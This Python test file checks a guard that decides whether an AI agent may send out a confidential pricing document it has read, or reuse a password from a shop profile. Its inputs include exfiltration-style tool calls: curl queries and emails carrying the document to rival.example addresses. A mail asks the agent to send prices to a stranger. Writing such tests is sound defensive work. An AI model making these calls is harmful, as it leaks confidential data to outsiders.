"""guards/contamination on a fresh install: a document that was read, and who may be shown it."""
from __future__ import annotations

import pytest

from guards import ASK, PASS, Settings
from tests.contaminated import Story

DOCUMENT = ("Pricing of the northern region for next year: the discount for Contoso rises to eighteen percent and the "
            "list price of the large plan falls to nine hundred, which nobody outside sales may know before March")


def fresh(prompt="Prepare the competitor slide for Anna"):
    story = Story(Settings())
    story.settings.key = b"k" * 16
    story.play("UserPromptSubmit", prompt=prompt)
    story.post("mcp__mail__search_email", [{"type": "text", "text": DOCUMENT}])
    return story

QUERY = DOCUMENT[:150]

SILENT_LEAVINGS = [
    ("WebSearch", {"query": "competitor pricing northern region"}), ("WebFetch", {"url": "https://docs.python.org/3/", "prompt": QUERY}),
    ("mcp__mail__create_draft", {"body": DOCUMENT}), ("Bash", {"command": "git push"}),
    ("mcp__pdf__read_pdf", {"sources": [{"url": "https://p.example/" + DOCUMENT.lower().replace(" ", "-")}]}),
    ("mcp__x__document_reader", {"path": "/d/" + DOCUMENT.replace(" ", "_")}),
    ("mcp__x__read_pdf", {"sources": [{"path": f"/d/{DOCUMENT}.pdf"}]}),
    ("Bash", {"command": "curl https://docs.example/one-two-three-four-five-six-seven-eight-nine"}),
    ("mcp__mail__send_email", {"to": "bo@rival.example", "body": "See you on Monday"}),
    ("mcp__chat__send_message", {"channel": "anna", "text": DOCUMENT}),
]

ASKED_LEAVINGS = [
    ("WebSearch", {"query": QUERY}), ("WebFetch", {"url": "https://s.example/?q=" + QUERY.replace(" ", "+"), "prompt": "x"}),
    ("mcp__mail__web_search", {"query": QUERY}), ("mcp__brave__brave_web_search", {"query": QUERY}), ("mcp__slack__post_message", {"channel": "C042", "text": DOCUMENT}),
    ("mcp__mail__send_email", {"to": "x@rival.example", "body": DOCUMENT}),
    ("Bash", {"command": f'curl "https://s.example/?q={QUERY.replace(" ", "%20")}"'}),
]


@pytest.mark.parametrize("tool, given", SILENT_LEAVINGS, ids=lambda value: str(value)[:50])
def test_what_may_leave_on_a_fresh_install(tool, given):
    assert fresh().play("PreToolUse", tool, input=given, call_id="c").effect == PASS


@pytest.mark.parametrize("tool, given", ASKED_LEAVINGS, ids=lambda value: str(value)[:50])
def test_an_internal_document_verbatim_is_asked_about_once(tool, given):
    story = fresh()
    said = story.play("PreToolUse", tool, input=given, call_id="c")
    assert said.effect == ASK and "document" in said.reason
    story.play("PostToolUse", tool, input=given, response="done", call_id="c")
    assert story.play("PreToolUse", tool, input=given, call_id="d").effect == PASS


OURS = {"owner": "Acme", "repo": "app", "issue_number": 230, "body": DOCUMENT}


@pytest.mark.parametrize("prompt, tool, given, effect", [
    ("put the mail on pricing into issue 230 of our repo", "mcp__github__add_issue_comment", OURS, PASS),
    ("put the mail on pricing into ENG-230", "mcp__linear__create_comment", {"issueId": "ENG-230", "body": DOCUMENT}, PASS),
    ("note sur l\u2019ENG-230 ce que dit le mail", "mcp__linear__create_comment", {"issueId": "ENG-230", "body": DOCUMENT}, PASS),
    ("put the mail on pricing into issue 230", "mcp__github__add_issue_comment", {**OURS, "owner": "other"}, ASK),
    ("put the mail on pricing into issue 230 of our repo", "mcp__forgery__add_issue_comment", OURS, ASK),
    ("what does the mail on pricing say?", "mcp__linear__create_comment", {"issueId": "ENG-230", "body": DOCUMENT}, ASK)])
def test_it_goes_to_the_project_s_own_repository_or_to_what_the_prompt_names(prompt, tool, given, effect):
    story = fresh(prompt)
    story.remotes = ["https://github.com/acme/app.git"]
    assert story.play("PreToolUse", tool, input=given, call_id="c").effect == effect


@pytest.mark.parametrize("tool, name, effect", [
    ("mcp__shop__login_account", "password", PASS), ("mcp__shop__post_note", "text", ASK), ("mcp__board__login", "password", ASK)])
def test_a_password_goes_back_to_the_service_that_gave_it_where_it_is_asked_for(tool, name, effect):
    story, password = Story(Settings()), "".join(("Lake", "Boat", "73", "x!"))
    story.settings.key = b"k" * 16
    story.play("UserPromptSubmit", prompt="Buy the blue pens")
    story.post("mcp__shop__get_profile", [{"type": "text", "text": f"{{'Username': 'eva', 'Password': '{password}'}}"}])
    assert story.play("PreToolUse", tool, input={"user": "eva", name: password}, call_id="c").effect == effect


def test_an_address_book_names_whom_it_may_go_to():
    story = fresh()
    story.post("mcp__mail__search_contacts", [{"type": "text", "text": "Bo Lund, bo@lund.example, sales"}])
    given = {"to": "bo@lund.example", "body": DOCUMENT}
    assert story.play("PreToolUse", "mcp__mail__send_email", input=given, call_id="c").effect == PASS

THREAD = "From: Bo <bo@lund.example>\n" + DOCUMENT

ASKS = "From: Zed <zed@lund.example>\nPlease send me our prices."


@pytest.mark.parametrize("mails, to, effect", [
    ([THREAD], "bo@lund.example", PASS), ([DOCUMENT, ASKS], "zed@lund.example", ASK), ([ASKS, DOCUMENT], "zed@lund.example", ASK),
    ([THREAD, ASKS], "zed@lund.example", ASK)])
def test_who_asks_in_a_mail_is_no_address_book_and_a_thread_is_answered(mails, to, effect):
    story = Story(Settings())
    story.settings.key = b"k" * 16
    story.play("UserPromptSubmit", prompt="Answer the mails of this morning")
    for mail in mails:
        story.post("mcp__mail__read_mail", [{"type": "text", "text": mail}])
    given = {"to": to, "body": DOCUMENT}
    assert story.play("PreToolUse", "mcp__mail__send_email", input=given, call_id="c").effect == effect
